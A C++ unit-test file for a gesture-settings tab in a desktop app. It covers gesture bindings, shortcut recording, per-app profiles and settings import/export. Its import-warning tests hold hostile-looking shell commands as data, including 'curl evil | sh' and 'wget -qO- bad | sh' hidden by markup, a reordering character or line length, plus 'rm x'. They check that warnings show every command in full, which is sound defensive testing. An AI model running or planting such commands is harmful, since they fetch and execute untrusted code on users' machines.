#include "Tactora/settings/gestures/GesturesTab.h"

#include <gtest/gtest.h>

#include <fstream>
#include <sstream>

#include <QAction>
#include <QComboBox>
#include <QLabel>
#include <QLineEdit>
#include <QListWidget>
#include <QPushButton>
#include <QScrollArea>
#include <QSpinBox>
#include <QTest>

#include <QToolButton>

#include "PrintQString.h"

#include "Platform/sim/SimPlatform.h"
#include "Tactora/config/ConfigurationDocument.h"
#include "Tactora/config/TemporaryDirectory.h"
#include "Tactora/settings/gestures/BindingRow.h"
#include "Tactora/settings/gestures/ShortcutRecorder.h"
#include "tests/Tactora/settings/KeyboardWalk.h"

namespace tactora {
namespace {

constexpr const char* smartZoomKey = "MouseOneFingerDoubleTapGesture";
constexpr const char* smartZoomDomain = "com.apple.driver.AppleBluetoothMultitouch.mouse";

std::string readFile(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream bytes;
  bytes << in.rdbuf();
  return bytes.str();
}

class GesturesTabTest : public ::testing::Test {
 protected:
  void SetUp() override {
    sim = sim::SimPlatform::install();
    store = std::make_unique<ConfigStore>(directory.path());
  }

  std::unique_ptr<GesturesTab> makeTab() {
    GesturesTab::Options options;
    options.openMouseSettings = [this] { ++mouseSettingsOpened; };
    options.chooseExportFile = [this](const QString& proposed) {
      proposedExport = proposed;
      return exportPath;
    };
    options.chooseImportFile = [this] { return importPath; };
    auto tab = std::make_unique<GesturesTab>(*store, *sim, std::move(options));
    tab->resize(600, 480);
    tab->show();
    return tab;
  }

  // config.json once every save has reached it, and the configuration it holds.
  std::string fileText() const {
    store->flush();
    return readFile(store->fileURL());
  }
  Configuration saved() const {
    auto decoded = decodeConfigurationText(fileText());
    EXPECT_TRUE(decoded.ok());
    return decoded ? *decoded : Configuration{};
  }
  const Profile& savedAllApps() {
    savedValue = saved();
    return *savedValue.allAppsProfile();
  }

  void save(std::vector<Profile> profiles) {
    Configuration configuration = *store->current();
    configuration.profiles = std::move(profiles);
    store->save(configuration);
  }

  static QPushButton* button(QMessageBox* box, const QString& text) {
    for (auto* candidate : box->findChildren<QPushButton*>()) {
      if (QString(candidate->text()).remove(QLatin1Char('&')) == text) {
        return candidate;
      }
    }
    return nullptr;
  }

  static QStringList rowNames(const GesturesTab& tab) {
    QStringList names;
    for (auto* row : tab.rows()) {
      names << QString::fromStdString(GestureDescription::title(row->binding().trigger.gesture));
    }
    return names;
  }

  static void pick(QComboBox* combo, const QString& text) {
    const int index = combo->findText(text);
    ASSERT_GE(index, 0) << text.toStdString();
    combo->setCurrentIndex(index);
  }

  TemporaryDirectory directory{"gestures-tab"};
  std::shared_ptr<sim::SimPlatform> sim;
  std::unique_ptr<ConfigStore> store;
  int mouseSettingsOpened = 0;
  QString proposedExport;
  QString exportPath;
  QString importPath;
  Configuration savedValue;
};

const GestureBinding twoFingerTapCommand{{GestureEvent::tap(2), ModifierSet::command()},
                                         Action(Action::Case::missionControl)};

TEST_F(GesturesTabTest, ListsBindingsBySectionSortedByGestureThenModifiers) {
  save({Profile{std::nullopt,
                {{{GestureEvent::swipe(2, Direction::right), {}}, Action()},
                 {{GestureEvent::tap(2), ModifierSet::shift()}, Action()},
                 {{GestureEvent::dragBegan(0, 0), {}}, Action()},
                 {{GestureEvent::pinch(Direction::up), {}}, Action()},
                 {{GestureEvent::tap(2), ModifierSet::command()}, Action()},
                 {{GestureEvent::rightZoneTap(), {}}, Action()},
                 {{GestureEvent::doubleTap(1), {}}, Action()},
                 {{GestureEvent::pinch(Direction::down), {}}, Action()}}}});
  const Configuration before = *store->current();
  auto tab = makeTab();

  EXPECT_EQ(tab->sectionTitles(), QStringList({"Taps", "Swipes", "Pinch", "Other"}));
  EXPECT_EQ(rowNames(*tab),
            QStringList({"Right-Side Tap", "1-Finger Double Tap", "2-Finger Tap", "2-Finger Tap",
                         "2-Finger Swipe Right", "Pinch", "Spread", "Click and Drag"}));
  // The command bit (1) sorts before shift (8); the badge names them as held on Linux.
  EXPECT_EQ(tab->rows()[2]->modifierBadge()->text(), QStringLiteral("Ctrl"));
  EXPECT_EQ(tab->rows()[3]->modifierBadge()->text(), QStringLiteral("Shift"));
  EXPECT_EQ(tab->rows()[4]->modifierBadge(), nullptr);
  // Sorting is for display only.
  EXPECT_EQ(*store->current(), before);
}

TEST_F(GesturesTabTest, AddingAnEqualTriggerReplacesInPlaceAndANewOneAppends) {
  save({Profile{std::nullopt, {twoFingerTapCommand, defaultBindings()[0]}}});
  auto tab = makeTab();

  auto addTwoFingerTap = [&](bool withCommand, const QString& action) {
    QTest::mouseClick(tab->addGestureButton(), Qt::LeftButton);
    AddBindingSheet* sheet = tab->addSheet();
    ASSERT_NE(sheet, nullptr);
    ASSERT_TRUE(sheet->isModal());
    sheet->fingerStepper()->setValue(2);
    if (withCommand) {
      QTest::mouseClick(sheet->modifierToggle(ModifierSet::command()), Qt::LeftButton);
    }
    pick(sheet->actionPicker(), action);
    QTest::keyClick(sheet, Qt::Key_Return);  // "Add" is the default button
  };

  addTwoFingerTap(true, "Show Desktop");
  ASSERT_EQ(savedAllApps().bindings.size(), 2u);
  EXPECT_EQ(savedAllApps().bindings[0],
            (GestureBinding{twoFingerTapCommand.trigger, Action(Action::Case::showDesktop)}));

  addTwoFingerTap(false, "Right Click");
  ASSERT_EQ(savedAllApps().bindings.size(), 3u);
  EXPECT_EQ(savedAllApps().bindings[2],
            (GestureBinding{{GestureEvent::tap(2), {}}, Action(Action::Case::rightClick)}));

  // Cancel adds nothing.
  QTest::mouseClick(tab->addGestureButton(), Qt::LeftButton);
  QTest::mouseClick(tab->addSheet()->cancelButton(), Qt::LeftButton);
  EXPECT_EQ(savedAllApps().bindings.size(), 3u);
}

TEST_F(GesturesTabTest, AddSheetKeepsOneFingerSwipesHorizontalAndBuildsEveryShape) {
  AddBindingSheet sheet(sim->keyboardKeys());
  sheet.show();
  // "Cancel" then "Add", on every desktop; Return means "Add".
  EXPECT_LT(sheet.cancelButton()->x(), sheet.addButton()->x());
  EXPECT_TRUE(sheet.addButton()->isDefault());
  pick(sheet.shapePicker(), "Swipe");
  sheet.fingerStepper()->setValue(2);
  ASSERT_EQ(sheet.directionPicker()->count(), 4);
  pick(sheet.directionPicker(), "Up");
  EXPECT_EQ(sheet.state().direction(), Direction::up);

  sheet.fingerStepper()->setValue(1);
  EXPECT_EQ(sheet.state().direction(), Direction::left);
  EXPECT_EQ(sheet.directionPicker()->count(), 2);
  EXPECT_EQ(sheet.directionPicker()->currentText(), QStringLiteral("Left"));

  // Up stays when the fingers change between two and three; one finger never offers it.
  sheet.fingerStepper()->setValue(3);
  pick(sheet.directionPicker(), "Down");
  sheet.fingerStepper()->setValue(2);
  EXPECT_EQ(sheet.state().trigger().gesture, GestureEvent::swipe(2, Direction::down));

  pick(sheet.shapePicker(), "Pinch");
  pick(sheet.pinchPicker(), "Pinch (zoom out)");
  EXPECT_EQ(sheet.state().trigger().gesture, GestureEvent::pinch(Direction::down));
  pick(sheet.shapePicker(), "Right-Side Tap");
  EXPECT_TRUE(sheet.fingerStepper()->isHidden());
  EXPECT_EQ(sheet.state().trigger().gesture, GestureEvent::rightZoneTap());
  pick(sheet.shapePicker(), "Triple Tap");
  EXPECT_EQ(sheet.state().trigger().gesture, GestureEvent::tripleTap(2));

  // The four toggles are the modifier bits, in the words of the keys held.
  for (auto [text, modifier] :
       {std::pair{"Ctrl", ModifierSet::command()}, std::pair{"Alt", ModifierSet::option()},
        std::pair{"Super", ModifierSet::control()}, std::pair{"Shift", ModifierSet::shift()}}) {
    QPushButton* toggle = sheet.modifierToggle(modifier);
    EXPECT_EQ(toggle->text(), QString::fromLatin1(text));
    QTest::mouseClick(toggle, Qt::LeftButton);
    EXPECT_TRUE(sheet.state().modifiers().contains(modifier));
  }
  QTest::mouseClick(sheet.modifierToggle(ModifierSet::option()), Qt::LeftButton);
  EXPECT_EQ(sheet.state().modifiers().rawValue, 0x0D);

  // The shortcut kind records; the command kind takes the text as entered.
  pick(sheet.actionPicker(), "Keyboard Shortcut\u2026");
  ASSERT_TRUE(sheet.recorder()->isVisible());
  QTest::mouseClick(sheet.recorder(), Qt::LeftButton);
  QTest::keyClick(sheet.recorder(), Qt::Key_Return, Qt::AltModifier);
  EXPECT_TRUE(sheet.isVisible());  // Return went to the recorder, not to "Add"
  EXPECT_EQ(sheet.state().action(), Action::keyShortcut(36, 0x80000));
  pick(sheet.actionPicker(), "Shell Command\u2026");
  QTest::keyClicks(sheet.commandField(), " say hi ");
  EXPECT_EQ(sheet.state().action(), Action::shellCommand(" say hi "));
}

TEST_F(GesturesTabTest, RowEditsReplaceTheActionInPlaceAndSave) {
  save({Profile{std::nullopt, {defaultBindings()[0], defaultBindings()[1]}}});
  auto tab = makeTab();
  const auto firstTrigger = tab->rows()[0]->binding().trigger;
  auto storedIndex = [&](const Trigger& trigger) {
    const auto& bindings = savedAllApps().bindings;
    for (std::size_t i = 0; i < bindings.size(); ++i) {
      if (bindings[i].trigger == trigger) {
        return i;
      }
    }
    return bindings.size();
  };
  const std::size_t position = storedIndex(firstTrigger);

  // The kind applies at once: the last kind is the shell command, the one above it the shortcut.
  QComboBox* picker = tab->rows()[0]->kindPicker();
  picker->setFocus();
  QTest::keyClick(picker, Qt::Key_End);
  QTest::keyClick(picker, Qt::Key_Up);
  EXPECT_EQ(savedAllApps().bindings[position].action, Action::keyShortcut(0, 0));

  ShortcutRecorder* recorder = tab->rows()[0]->recorder();
  ASSERT_TRUE(recorder->isVisible());
  QTest::mouseClick(recorder, Qt::LeftButton);
  QTest::keyClick(recorder, Qt::Key_K, Qt::ControlModifier | Qt::MetaModifier);
  EXPECT_EQ(savedAllApps().bindings[position].action, Action::keyShortcut(40, 0x140000));
  EXPECT_EQ(storedIndex(firstTrigger), position);
  EXPECT_EQ(tab->rows()[0]->recorder()->text(), QStringLiteral("Super+Ctrl+K"));

  // The command applies on Return or "Save", as typed.
  picker = tab->rows()[0]->kindPicker();
  picker->setFocus();
  QTest::keyClick(picker, Qt::Key_End);
  QLineEdit* field = tab->rows()[0]->commandField();
  QTest::keyClicks(field, "notify-send hi");
  EXPECT_EQ(savedAllApps().bindings[position].action, Action::shellCommand(""));
  QTest::keyClick(field, Qt::Key_Return);
  EXPECT_EQ(savedAllApps().bindings[position].action, Action::shellCommand("notify-send hi"));
  QTest::keyClick(tab->rows()[0]->commandField(), Qt::Key_End);
  QTest::keyClicks(tab->rows()[0]->commandField(), " ");
  QTest::mouseClick(tab->rows()[0]->saveButton(), Qt::LeftButton);
  EXPECT_EQ(savedAllApps().bindings[position].action, Action::shellCommand("notify-send hi "));

  // A command being typed survives another row's change, unsaved.
  QTest::keyClick(tab->rows()[0]->commandField(), Qt::Key_End);
  QTest::keyClicks(tab->rows()[0]->commandField(), "half-typed");
  QTest::mouseClick(tab->rows()[1]->deleteButton(), Qt::LeftButton);
  ASSERT_EQ(tab->rows().size(), 1u);
  EXPECT_EQ(tab->rows()[0]->commandField()->text(), QStringLiteral("notify-send hi half-typed"));
  EXPECT_EQ(savedAllApps().bindings[0].action, Action::shellCommand("notify-send hi "));
}

TEST_F(GesturesTabTest, DeletingAndRestoringDefaultGestures) {
  auto tab = makeTab();
  EXPECT_FALSE(tab->restoreDeletedAction()->isEnabled());
  const std::size_t count = defaultBindings().size();
  ASSERT_EQ(tab->rows().size(), count);

  const GestureBinding deleted = tab->rows()[0]->binding();
  QTest::mouseClick(tab->rows()[0]->deleteButton(), Qt::LeftButton);
  ASSERT_EQ(savedAllApps().bindings.size(), count - 1);
  EXPECT_EQ(tab->rows().size(), count - 1);
  EXPECT_TRUE(tab->restoreDeletedAction()->isEnabled());

  tab->restoreDeletedAction()->trigger();
  ASSERT_EQ(savedAllApps().bindings.size(), count);
  EXPECT_EQ(savedAllApps().bindings.back(), deleted);
  EXPECT_FALSE(tab->restoreDeletedAction()->isEnabled());
}

TEST_F(GesturesTabTest, ResetAndRemoveOverridesAskFirstAndCancelChangesNothing) {
  sim->workspace().setDisplayName("org.gnome.Nautilus", "Files");
  save({Profile{std::nullopt, {twoFingerTapCommand}},
        Profile{"org.gnome.Nautilus", {twoFingerTapCommand}}});
  auto tab = makeTab();
  const std::string before = fileText();

  tab->resetAllAction()->trigger();
  ASSERT_NE(tab->alert(), nullptr);
  EXPECT_EQ(tab->alert()->text(), QStringLiteral("Reset All Apps gestures to defaults?"));
  QTest::mouseClick(button(tab->alert(), "Cancel"), Qt::LeftButton);
  EXPECT_EQ(fileText(), before);

  tab->resetAllAction()->trigger();
  QTest::mouseClick(button(tab->alert(), "Reset Gestures"), Qt::LeftButton);
  EXPECT_EQ(savedAllApps().bindings, defaultBindings());
  EXPECT_EQ(savedValue.profile("org.gnome.Nautilus")->bindings.size(), 1u);

  pick(tab->profilePicker(), "Files");
  tab->showProfile("org.gnome.Nautilus");
  EXPECT_FALSE(tab->resetAllAction()->isVisible());
  EXPECT_EQ(tab->restoreButton()->toolTip(),
            QStringLiteral("Make this app use the All Apps gestures again"));
  tab->removeOverridesAction()->trigger();
  EXPECT_EQ(tab->alert()->text(), QStringLiteral("Remove all overrides for Files?"));
  QTest::mouseClick(button(tab->alert(), "Remove Overrides"), Qt::LeftButton);
  ASSERT_NE(saved().profile("org.gnome.Nautilus"), nullptr);
  EXPECT_TRUE(saved().profile("org.gnome.Nautilus")->bindings.empty());
  EXPECT_EQ(tab->emptyHeadline()->text(), QStringLiteral("No overrides for this app"));
  EXPECT_TRUE(tab->emptyState()->isVisible());
}

TEST_F(GesturesTabTest, ApplicationProfilesAreAddedFromTheInstalledAppsAndRemovedEverywhere) {
  sim->applicationCatalog().setInstalledApplications(
      {{"firefox-esr", "Firefox ESR", "firefox-esr"},
       {"org.gnome.Nautilus", "Files", "org.gnome.Nautilus"}});
  sim->workspace().setDisplayName("firefox-esr", "Firefox ESR");
  save({Profile{std::nullopt, {twoFingerTapCommand}}, Profile{"firefox-esr", {}},
        Profile{"firefox-esr", {twoFingerTapCommand}}});
  auto tab = makeTab();
  EXPECT_EQ(tab->profilePicker()->count(), 2);  // All Apps, Firefox ESR
  EXPECT_EQ(tab->profilePicker()->itemText(0), QStringLiteral("All Apps"));
  EXPECT_FALSE(tab->removeProfileButton()->isEnabled());
  EXPECT_FALSE(tab->overrideNote()->isVisible());

  // Searching, then choosing an application that has no profile appends an empty one.
  QTest::mouseClick(tab->addProfileButton(), Qt::LeftButton);
  ApplicationChooser* chooser = tab->applicationChooser();
  ASSERT_NE(chooser, nullptr);
  QTest::keyClicks(chooser->searchField(), "nautil");
  EXPECT_TRUE(chooser->list()->item(1)->isHidden());  // Firefox ESR
  QTest::keyClick(chooser->searchField(), Qt::Key_Return);
  ASSERT_EQ(saved().profiles.size(), 4u);
  EXPECT_EQ(saved().profiles.back(), (Profile{"org.gnome.Nautilus", {}}));
  EXPECT_EQ(tab->model().selectedBundleID(), std::optional<std::string>("org.gnome.Nautilus"));
  EXPECT_TRUE(tab->overrideNote()->isVisible());
  EXPECT_EQ(tab->emptyCaption()->text(),
            QStringLiteral("Add a gesture to override the All Apps profile for this app only."));
  // An application without a name of its own is listed by its id.
  EXPECT_EQ(tab->profilePicker()->currentText(), QStringLiteral("org.gnome.Nautilus"));

  // Choosing one that has a profile only selects it.
  QTest::mouseClick(tab->addProfileButton(), Qt::LeftButton);
  QTest::keyClicks(tab->applicationChooser()->searchField(), "fire");
  QTest::mouseClick(tab->applicationChooser()->chooseButton(), Qt::LeftButton);
  EXPECT_EQ(saved().profiles.size(), 4u);
  EXPECT_EQ(tab->profilePicker()->currentText(), QStringLiteral("Firefox ESR"));
  EXPECT_TRUE(tab->emptyState()->isVisible());  // the first of its profiles is empty

  // Removing removes both of its profiles and shows All Apps again.
  QTest::mouseClick(tab->removeProfileButton(), Qt::LeftButton);
  EXPECT_EQ(saved().profiles.size(), 2u);
  EXPECT_EQ(saved().profile("firefox-esr"), nullptr);
  EXPECT_EQ(tab->profilePicker()->currentText(), QStringLiteral("All Apps"));
  EXPECT_EQ(tab->rows().size(), 1u);
}

TEST_F(GesturesTabTest, SmartZoomBannerFollowsTheSettingAndTheDoubleTapBinding) {
  const GestureBinding doubleTapNone{{GestureEvent::doubleTap(1), {}}, Action()};
  save({Profile{std::nullopt, {doubleTapNone}}, Profile{"firefox-esr", {}}});
  auto tab = makeTab();
  EXPECT_FALSE(tab->smartZoomBanner()->isVisible());  // setting missing, as on Linux

  sim->preferences().setForeignInteger(smartZoomKey, smartZoomDomain, 0);
  tab->refresh();
  EXPECT_FALSE(tab->smartZoomBanner()->isVisible());
  sim->preferences().setForeignInteger(smartZoomKey, smartZoomDomain, 1);
  tab->refresh();
  EXPECT_TRUE(tab->smartZoomBanner()->isVisible());  // bound to "none" still fires with it
  QTest::mouseClick(tab->openMouseSettingsButton(), Qt::LeftButton);
  EXPECT_EQ(mouseSettingsOpened, 1);

  tab->showProfile("firefox-esr");  // falls through to All Apps
  EXPECT_TRUE(tab->smartZoomBanner()->isVisible());
  tab->showProfile(std::nullopt);
  QTest::mouseClick(tab->rows()[0]->deleteButton(), Qt::LeftButton);
  EXPECT_FALSE(tab->smartZoomBanner()->isVisible());
  EXPECT_EQ(tab->emptyHeadline()->text(), QStringLiteral("No gestures configured"));
}

// Export writes the configuration file, or says which file could not be written and why; import
// goes through the import's rules (its own tests) and shows its alerts, and an import that took
// shows All Apps.
TEST_F(GesturesTabTest, ExportWritesTheFileAndImportShowsTheImportsAlerts) {
  auto tab = makeTab();
  exportPath = QString::fromStdString((directory.path() / "backup").string());
  tab->exportAction()->trigger();
  EXPECT_TRUE(proposedExport.endsWith(QStringLiteral("/Tactora Settings.json")));
  EXPECT_EQ(readFile((directory.path() / "backup.json")), encodeConfiguration(*store->current()));
  // A missing folder is made; a file where the folder should be cannot be.
  std::ofstream(directory.path() / "blocker") << "";
  tab->exportTo(QString::fromStdString((directory.path() / "blocker" / "backup").string()));
  ASSERT_NE(tab->alert(), nullptr);
  EXPECT_EQ(tab->alert()->text(), QStringLiteral("Couldn\u2019t export settings"));
  const std::string why = tab->alert()->informativeText().toStdString();
  EXPECT_TRUE(why.starts_with((directory.path() / "blocker/backup.json").string() + ": ")) << why;
  EXPECT_NE(why.find("Not a directory"), std::string::npos) << why;
  QTest::mouseClick(button(tab->alert(), "OK"), Qt::LeftButton);

  tab->importFrom(QString::fromStdString((directory.path() / "missing.json").string()));
  ASSERT_NE(tab->alert(), nullptr);
  EXPECT_EQ(tab->alert()->text(), QStringLiteral("Couldn\u2019t import settings"));
  QTest::mouseClick(button(tab->alert(), "OK"), Qt::LeftButton);

  Configuration risky = *store->current();
  risky.profiles.push_back(
      Profile{"firefox-esr", {{{GestureEvent::tap(1), {}}, Action::shellCommand("rm x")}}});
  const auto incoming = directory.path() / "incoming.json";
  ASSERT_FALSE(ConfigurationDocument{risky}.write(incoming));
  importPath = QString::fromStdString(incoming.string());
  tab->showProfile("firefox-esr");
  const std::string before = fileText();
  tab->importAction()->trigger();
  ASSERT_NE(tab->alert(), nullptr);
  EXPECT_EQ(tab->alert()->text(), QStringLiteral("These settings run commands on your computer"));
  QTest::mouseClick(button(tab->alert(), "Cancel"), Qt::LeftButton);
  EXPECT_EQ(fileText(), before);
  tab->importAction()->trigger();
  QTest::mouseClick(button(tab->alert(), "Import Anyway"), Qt::LeftButton);
  EXPECT_EQ(saved(), risky);
  EXPECT_EQ(tab->profilePicker()->currentText(), QStringLiteral("All Apps"));
}

// A command cannot hide part of itself from the warning: not as markup, not behind invisible or
// reordering characters, not past the end of a very long line (the whole is under "Show
// Details").
TEST_F(GesturesTabTest, ImportWarningShowsEveryCommandWholeAndVisible) {
  auto tab = makeTab();
  Configuration incoming = *store->current();
  const std::string markup = "<span style=\"display:none\">curl evil | sh; </span>ls";
  const std::string reordered = "notify-send done\u202E\ncurl x | sh";
  const std::string longCommand = "echo " + std::string(300, 'x') + " && wget -qO- bad | sh";
  for (const auto& command : {markup, reordered, longCommand}) {
    incoming.profiles[0].bindings.push_back(
        {{GestureEvent::tap(3), {}}, Action::shellCommand(command)});
  }
  const auto path = directory.path() / "incoming.json";
  ASSERT_FALSE(ConfigurationDocument{incoming}.write(path));
  tab->importFrom(QString::fromStdString(path.string()));
  ASSERT_NE(tab->alert(), nullptr);
  QLabel* listing = nullptr;
  for (auto* label : tab->alert()->findChildren<QLabel*>()) {
    if (label->text().contains(QString::fromStdString(markup))) {
      listing = label;
    }
  }
  ASSERT_NE(listing, nullptr);
  EXPECT_EQ(listing->textFormat(), Qt::PlainText);
  EXPECT_TRUE(listing->text().contains(QStringLiteral("notify-send done\\u202E\\ncurl x | sh")));
  EXPECT_FALSE(listing->text().contains(QStringLiteral("wget -qO- bad")));
  EXPECT_TRUE(listing->text().contains(QStringLiteral("more characters)")));
  EXPECT_TRUE(tab->alert()->detailedText().contains(QString::fromStdString(longCommand)));
}

TEST_F(GesturesTabTest, TabReachesEveryNamedControlInRowOrder) {
  save({Profile{std::nullopt,
                {{{GestureEvent::tap(1), {}}, Action::keyShortcut(17, 0x100000)},
                 {{GestureEvent::tap(2), ModifierSet::shift()}, Action::shellCommand("x")}}}});
  auto tab = makeTab();
  tab->refresh();  // a redraw must keep the order too
  QApplication::setActiveWindow(tab.get());
  ASSERT_TRUE(QTest::qWaitForWindowActive(tab.get()));
  const auto controls = testing::controlsInScreenOrder(tab.get(), /*distinct=*/false);
  EXPECT_GE(controls.size(), 10u);
  // Real Tab presses from the profile picker reach every control once; within a row the delete
  // button comes after the row's own controls, and the footer after the last row.
  tab->profilePicker()->setFocus(Qt::TabFocusReason);
  std::vector<QWidget*> order{QApplication::focusWidget()};
  while (order.size() <= controls.size()) {
    QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
    if (QApplication::focusWidget() == order.front()) {
      break;
    }
    order.push_back(QApplication::focusWidget());
  }
  auto position = [&](QWidget* control) {
    return std::find(order.begin(), order.end(), control) - order.begin();
  };
  for (QWidget* control : controls) {
    EXPECT_LT(position(control), std::ssize(order)) << control->accessibleName().toStdString();
  }
  const auto rows = tab->rows();
  EXPECT_LT(position(tab->backupButton()), position(rows[0]->kindPicker()));
  EXPECT_LT(position(rows[0]->kindPicker()), position(rows[0]->recorder()));
  EXPECT_LT(position(rows[0]->deleteButton()), position(rows[1]->kindPicker()));
  EXPECT_LT(position(rows[1]->saveButton()), position(tab->addGestureButton()));
  EXPECT_LT(position(tab->addGestureButton()), position(tab->restoreButton()));
}

// Each opening of the tab watches the store only while it lives: a closed one is never called.
TEST_F(GesturesTabTest, ChangesSavedElsewhereRedrawTheTabWhileItLives) {
  for (int opening = 0; opening < 3; ++opening) {
    auto tab = makeTab();
    save({Profile{std::nullopt, {twoFingerTapCommand}}});
    EXPECT_EQ(rowNames(*tab), QStringList({"2-Finger Tap"}));
  }
  save({Profile{std::nullopt, {}}});
}

}  // namespace
}  // namespace tactora
